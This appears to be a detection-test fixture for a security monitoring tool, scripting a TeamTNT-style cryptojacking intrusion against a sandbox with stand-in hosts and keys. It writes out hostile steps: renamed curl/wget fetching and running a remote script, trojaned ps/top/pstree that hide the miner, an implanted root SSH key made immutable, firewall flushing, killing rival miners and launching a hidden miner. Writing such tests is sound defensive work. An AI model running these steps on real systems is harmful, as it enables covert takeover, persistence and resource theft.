# id: K02
# title: TeamTNT: renamed downloaders, replaced ps and top, keys, profile, rivals killed, hidden miner
# expect: alert
# severity: critical
# kinds: process, file, network, integrity
# attck: T1496.001
# image: tools
# launch: app
# peers: http:8000, stratum:3333
# companion: /var/tmp/.../httpd-w
# timeout: 60
# within: 20

cp /usr/bin/curl /usr/bin/cdz
cp /usr/bin/wget /usr/bin/wdz
cdz -s -m 3 http://http:8000/s3f815.sh >/var/tmp/.../a.sh || wdz -q -T 3 -O /var/tmp/.../a.sh http://http:8000/s3f815.sh
for tool in ps top pstree; do
    [ -e /usr/bin/$tool ] && mv /usr/bin/$tool /usr/bin/$tool.lanigiro
    printf '#!/bin/sh\n/usr/bin/%s.lanigiro "$@" | grep -v -e httpd-w -e lanigiro\n' $tool >/usr/bin/$tool
    chmod 755 /usr/bin/$tool
    touch -d '2016-08-27 10:00' /usr/bin/$tool
done
mkdir -p /root/.ssh
echo 'ssh-rsa AAAAB3NzaC1yc2EStandIn root@hilde' >>/root/.ssh/authorized_keys
chattr +ia /root/.ssh/authorized_keys 2>/dev/null
echo 'true # stand-in' >>/root/.profile
echo 'nameserver 127.0.0.1' >>/etc/resolv.conf
iptables -F 2>/dev/null
for rival in kinsing kdevtmpfsi masscan pnscan; do
    pkill -9 -x "$rival"
done
ps aux >/dev/null
sh /var/tmp/.../a.sh >/dev/null
/var/tmp/.../httpd-w
